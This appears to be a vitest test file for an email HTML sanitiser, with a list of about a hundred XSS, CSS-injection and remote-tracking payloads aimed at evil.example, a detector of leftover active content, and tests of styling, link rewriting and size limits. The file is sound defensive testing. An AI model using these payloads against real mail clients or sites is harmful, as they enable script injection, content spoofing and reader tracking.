// Attacks that mail HTML has made on other systems, and looks that must survive.
import { Parser } from 'htmlparser2';
import { expect, test } from 'vitest';
import { sanitiseHtml } from './sanitise-html.ts';

const OPTIONS = {
  allowRemote: false,
  cidUrl: (cid: string) => (cid === 'logo@made-up' ? '/inline/1' : undefined),
  proxyUrl: (url: string) => `/proxy?url=${encodeURIComponent(url)}`,
};

const ATTACKS = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ScRiPt\n>alert(1)</sCrIpT\n>',
  '<script>alert(1)<!-- </script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<body onload=alert(1)>text</body>',
  '<body background="https://evil.example/bg.png">text</body>',
  '<div onmouseover="alert(1)">text</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://good.example" ping="https://evil.example/ping">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="https://evil.example"></frameset>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="Evil.class" codebase="https://evil.example"></applet>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><image href="https://evil.example/x.png"/></svg>',
  '<svg><style>*{background:url(https://evil.example/x)}</style></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<xmp></xmp><img src=x onerror=alert(1)></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><img src=x onerror=alert(1)></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="dns-prefetch" href="//evil.example">',
  '<link rel="preload" as="image" href="https://evil.example/x.png">',
  '<form action="https://evil.example"><input name=q autofocus onfocus=alert(1)><button>Go</button></form>',
  '<input type=image src="https://evil.example/x.png">',
  '<isindex action="javascript:alert(1)">',
  '<button formaction="javascript:alert(1)">x</button>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="\\\\evil.example\\pixel.gif">',
  '<img src="/\\evil.example/pixel.gif">',
  '<img src="HTTPS://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/2x.png 2x" src="cid:logo@made-up">',
  '<picture><source srcset="https://evil.example/x.webp"><img src="cid:logo@made-up"></picture>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img lowsrc="https://evil.example/x.gif" dynsrc="https://evil.example/x.avi">',
  '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png" autoplay></video>',
  '<audio src="https://evil.example/x.mp3" autoplay></audio>',
  '<table background="https://evil.example/bg.png"><tr><td background="//evil.example/x.png">x</td></tr></table>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<div style="background-image: url(\'//evil.example/x.png\')">x</div>',
  '<div style="background:u\\72l(https://evil.example/x.png)">x</div>',
  '<div style="background:url/**/(https://evil.example/x.png)">x</div>',
  '<div style="background:image-set(\'https://evil.example/x.png\' 1x)">x</div>',
  '<div style="list-style-image:url(https://evil.example/x.png)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="width:exp/**/ression(alert(1))">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#a)">x</div>',
  '<div style="behavior:url(#default#time2)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Please sign in</div>',
  '<div style="position:absolute;top:-500px;z-index:9999">x</div>',
  '<div style="color:red;} body{background:url(https://evil.example)}">x</div>',
  '<div style=\'font-family:"</style><script>alert(1)</script>"\'>x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>@import url(//evil.example/x.css);p{color:red}</style>',
  '<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>',
  '<style>p{background:url(https://evil.example/x.png)}</style>',
  '<style>a[href^="x"]{background:url(https://evil.example/?x)}</style>',
  '<style>@media screen{@import "x";p{position:fixed;content:url(https://evil.example/x)}}</style>',
  '<style>@\\69mport "https://evil.example/x.css";</style>',
  '<style>p{--x:url(https://evil.example/x);background:var(--x)}</style>',
  '<style></style><script>alert(1)</script></style>',
  '<style><!--</style><img src=x onerror=alert(1)>--></style>',
  '<style>p{color:red</style><style>}</style><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<p title="--><img src=x onerror=alert(1)>">x</p>',
  '<a title="</a><img src=x onerror=alert(1)>" href="https://good.example">x</a>',
  '<img alt="x" alt="` onerror=alert(1)" src=x>',
  '<bgsound src="https://evil.example/x.mid">',
  '<marquee onstart=alert(1)>x</marquee>',
  '<details open ontoggle=alert(1)>x</details>',
  '<div \u0000cleaned="1" style="background:url(https://evil.example/x)" onclick="alert(1)">x</div>',
  '<p id="app" name="document">x</p>',
];

/** Reads a result anew and tells everything in it that runs, or names something not our own. */
function dangersIn(html: string): string[] {
  const dangers: string[] = [];
  let style = false;
  const checkCss = (css: string) => {
    if (
      /url\((?!"\/(?:inline|proxy))|expression|@import|@font-face|position|behavior|binding|javascript|\\(?!3c )|var\(|image-set/i.test(
        css,
      )
    )
      dangers.push(`css ${css}`);
  };
  const parser = new Parser({
    onopentag(name, attributes) {
      style = name === 'style';
      if (
        /^(script|iframe|frame|frameset|object|embed|applet|svg|math|link|meta|base|form|input|button|video|audio|source|textarea|xmp|noscript|template|title|plaintext|isindex|bgsound|marquee)$/.test(
          name,
        )
      )
        dangers.push(`<${name}>`);
      for (const [key, value] of Object.entries(attributes)) {
        if (
          /^on|^(srcset|background|ping|action|formaction|poster|lowsrc|dynsrc|data|srcdoc|http-equiv)$/.test(
            key,
          )
        )
          dangers.push(`${name} ${key}`);
        if (key === 'href' && !/^(https?:\/\/|mailto:|tel:|#m-)/.test(value)) dangers.push(`href ${value}`);
        if (key === 'src' && !/^(\/inline\/|\/proxy\?|data:image\/(png|gif|jpeg))/.test(value))
          dangers.push(`src ${value}`);
        if (key === 'style') checkCss(value);
        if ((key === 'id' || key === 'name') && !value.startsWith('m-')) dangers.push(`${key} ${value}`);
      }
    },
    ontext(text) {
      if (style) checkCss(text);
    },
    onclosetag() {
      style = false;
    },
  });
  parser.end(html);
  return dangers;
}

test.each(ATTACKS)('F32, F33: nothing active or remote is left of %s', (attack) => {
  for (const html of [
    attack,
    `<p>before${attack}after</p>`,
    `<table><tr><td>${attack}`,
    `<html><head>${attack}</head><body>x`,
  ]) {
    expect(dangersIn(sanitiseHtml(html, OPTIONS).html)).toEqual([]);
    // What is written anew must stay the same when it is read again.
    const once = sanitiseHtml(html, OPTIONS).html;
    expect(dangersIn(sanitiseHtml(once, OPTIONS).html)).toEqual([]);
  }
});

test('F33: remote pictures are counted, and come through the proxy when the reader wants them', () => {
  const html =
    '<style>.a{background:#fff url("https://shop.example/a.png") no-repeat}</style><table background="https://shop.example/b.png"><tr><td style="background:url(http://shop.example/c.png)"><img src="//shop.example/d.png" width="40"></td></tr></table>';
  const closed = sanitiseHtml(html, OPTIONS);
  expect(closed.remoteCount).toBe(4);
  expect(closed.html).not.toContain('shop.example');
  expect(closed.html).toContain('background: #fff');
  expect(closed.html).toContain('width="40"');
  const open = sanitiseHtml(html, { ...OPTIONS, allowRemote: true });
  expect(open.html.match(/\/proxy\?url=https?%3A%2F%2Fshop\.example%2F[abcd]\.png/g)).toHaveLength(4);
  expect(dangersIn(open.html)).toEqual([]);
});

test('pictures inside the mail and small pictures in data: are shown', () => {
  const { html, remoteCount } = sanitiseHtml(
    '<img src="cid:logo%40made-up"><img src="cid:gone"><img src="data:image/png;base64,AAAA">',
    OPTIONS,
  );
  expect(html).toBe('<img src="/inline/1" /><img /><img src="data:image/png;base64,AAAA" />');
  expect(remoteCount).toBe(0);
});

test('tables, colours, fonts, style sheets and the colour of the page keep the looks of real mail', () => {
  const { html } = sanitiseHtml(
    '<html><head><style type="text/css">body{margin:0} .h{font:bold 14px Arial,sans-serif;color:#336} @media (max-width:600px){.h{width:100%!important}}</style></head><body bgcolor="#f4f4f4"><table width="600" cellpadding="0" align="center" style="border-collapse:collapse;mso-table-lspace:0pt"><tr><td class="h" style="padding:10px 0; font-family: \'Segoe UI\', Arial">Hallo</td></tr></table></body></html>',
    OPTIONS,
  );
  expect(html).toContain('body{ margin: 0}');
  expect(html).toContain('@media (max-width:600px){');
  expect(html).toContain('width: 100% !important');
  expect(html).toContain('<div style="background-color: #f4f4f4');
  expect(html).toContain(
    '<table width="600" cellpadding="0" align="center" style="border-collapse: collapse">',
  );
  expect(html).toContain("padding: 10px 0; font-family: 'Segoe UI', Arial");
});

test('a link opens in a new window and does not tell where from', () => {
  const { html } = sanitiseHtml(
    '<a href="https://kunde.example/a?b=1&amp;c=2" target="_top" rel="opener" onclick="x()">Offer</a><a href="www.kunde.example">w</a><a href="#top">up</a>',
    OPTIONS,
  );
  expect(html).toBe(
    '<a href="https://kunde.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">Offer</a><a href="http://www.kunde.example" target="_blank" rel="noopener noreferrer">w</a><a href="#m-top">up</a>',
  );
});

test('a mistake in a style sheet costs what stands behind it, not the whole looks', () => {
  const { html } = sanitiseHtml('<style>p { color: red } .x { width: 10px </style><p>a</p>', OPTIONS);
  expect(html).toContain('color: red');
  expect(html).toContain('width: 10px');
});

test('F10: ten megabytes of HTML are cut, and take seconds at most', () => {
  const started = process.cpuUsage();
  const rows = sanitiseHtml(
    '<tr><td style="color:red;background:url(x)">row</td></tr>'.repeat(180_000),
    OPTIONS,
  );
  expect(rows.isCut).toBe(true);
  const deep = sanitiseHtml('<div>'.repeat(2_000_000), OPTIONS);
  expect(deep.html.length).toBeLessThan(10_000_000);
  sanitiseHtml(`<style>${'a{'.repeat(100_000)}</style>`, OPTIONS);
  sanitiseHtml(`<p style="${'a:url('.repeat(1_000_000)}">x</p>`, OPTIONS);
  sanitiseHtml('<'.repeat(10_000_000), OPTIONS);
  // Seconds of work, not of waiting for others on the machine.
  expect(process.cpuUsage(started).user / 1e6).toBeLessThan(25);
}, 240_000);
